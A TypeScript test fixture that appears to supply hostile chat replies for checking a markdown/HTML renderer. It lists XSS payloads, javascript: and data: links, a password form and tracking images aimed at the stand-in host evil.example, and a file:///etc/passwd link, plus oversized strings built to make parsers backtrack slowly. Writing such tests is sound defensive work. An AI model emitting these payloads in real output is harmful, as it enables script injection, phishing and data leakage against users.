/** Replies that try to do more than be read. Used for what is drawn at once and for what streams in. */
const scripts = [
  '<script>boom()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=boom()>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=boom()></svg>',
  '<svg><script>boom()</script></svg>',
  '<iframe src="javascript:boom()"></iframe>',
  '<iframe srcdoc="<script>parent.boom()</script>"></iframe>',
  '<object data="https://evil.example/"></object>',
  '<embed src="https://evil.example/">',
  '<video><source onerror=boom()></video>',
  '<audio src=x onerror=boom()>',
  '<body onload=boom()>',
  '<details open ontoggle=boom()>x</details>',
  '<marquee onstart=boom()>x</marquee>',
  '<input autofocus onfocus=boom()>',
  '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
  '<button onclick=boom()>Click</button>',
  '<a href="javascript:boom()">click</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=preload as=image href="https://evil.example/x.png">',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<math><mtext><script>boom()</script></mtext></math>',
  '<template><script>boom()</script></template>',
  '<slot name=footer></slot>',
  '<postern-chat public-key="pk_x" open></postern-chat>',
  '<noscript><p title="</noscript><img src=x onerror=boom()>">',
  '<![CDATA[<script>boom()</script>]]>',
  '<!--><img src=x onerror=boom()>-->',
  '</div></dialog></template><script>boom()</script>',
  '&lt;script&gt;boom()&lt;/script&gt;',
  '&#60;img src=x onerror=boom()&#62;',
  '<scr<script>ipt>boom()</script>',
  '<IMG """><SCRIPT>boom()</SCRIPT>">',
  '<img/src/onerror=boom()>',
  '<a\u0000 href=javascript:boom()>x</a>',
  '\u003cscript\u003eboom()\u003c/script\u003e',
];

const links = [
  '[x](javascript:boom())',
  '[x](JaVaScRiPt:boom())',
  '[x](java\tscript:boom())',
  '[x](java\nscript:boom())',
  '[x](\u0001javascript:boom())',
  '[x](  javascript:boom())',
  '[x](<javascript:boom()>)',
  '[x](javascript&colon;boom())',
  '[x](&#106;avascript:boom())',
  '[x](javascript:boom() "title")',
  '[x](javascript://https://example.com/%0aboom())',
  '[x](data:text/html,<script>boom()</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=)',
  '[x](vbscript:boom())',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.com/1)',
  '[x](about:blank)',
  '[x](filesystem:https://example.com/x)',
  '[x](chrome://settings)',
  '[x](intent://evil#Intent;scheme=x;end)',
  '[x](tel:+1900)',
  '[x](//evil.example/)',
  '[x](/account/delete)',
  '[x](#top)',
  '[x](?logout=1)',
  '[https://bank.example](https://bank.example@evil.example/)',
  '[x](https://user:password@evil.example/)',
  '<javascript:boom()>',
  '<data:text/html,boom>',
  'javascript:boom()',
  '[![x](javascript:boom())](javascript:boom())',
  '[x][1]\n\n[1]: javascript:boom()',
  '[x](https://example.com" onclick="boom())',
  "[x](https://example.com' onmouseover='boom())",
  '[x](https://example.com><script>boom()</script>)',
  '[<img src=x onerror=boom()>](https://example.com/)',
];

const images = [
  '![x](https://evil.example/pixel.gif)',
  '![x](https://evil.example/?q=secret "t")',
  '![](https://evil.example/a.svg)',
  '![x][1]\n\n[1]: https://evil.example/a.png',
  '[![x](https://evil.example/pixel.gif)](https://example.com)',
  '![x](data:image/svg+xml,<svg onload=boom()>)',
];

const structures = [
  '```html\n<script>boom()</script>\n```',
  '```"><img src=x onerror=boom()>\ncode\n```',
  '`<img src=x onerror=boom()>`',
  '> <img src=x onerror=boom()>',
  '- <img src=x onerror=boom()>',
  '# <img src=x onerror=boom()>',
  '**<img src=x onerror=boom()>**',
  '| a |\n|---|\n| <img src=x onerror=boom()> |',
  '${boom()}',
  '{{boom()}}',
  '?lit$1234$',
  '<!--?lit$-->',
  '\u202Etxt.exe\u202C [gpj.kcilc](https://example.com/)',
  'a\u0000b',
];

export const hostileReplies: readonly string[] = [...scripts, ...links, ...images, ...structures];

/**
 * Replies made to make a reader slow: every mark of the subset in floods of each kind (alone, spaced, as openers without an
 * end), each with an end that makes a pattern fail after it has read everything.
 */
const units = [
  '*',
  '**a ',
  '__a',
  '`',
  '` `` ',
  '~',
  '[',
  '[a](',
  '[a](b',
  '[a](b "',
  '[a](b)',
  '![[',
  '[\\]',
  '<http:',
]
  .concat(['\\', '>', '> ', '- a\n', '1. ', '#', ' ', '\t', '\n', '# a #', '```\n', 'http://', 'a/(', ')', '.', '"'])
  .concat(['\u2028', '\u2029', '\r', '\0', '\ud800', '\u202e']);
const heads = ['', '# ', '- ', '> ', '```', '~~~', '*', '[a](', 'https://a', '---'];
const tails = ['', 'x', '`', ')', '\u2028y'];

/** By what they begin with. */
export const slowReplies: ReadonlyMap<string, readonly string[]> = new Map(
  heads.map((head) => [
    head,
    units.flatMap((unit) => tails.map((tail) => head + unit.repeat(Math.ceil(12_000 / unit.length)) + tail)),
  ]),
);
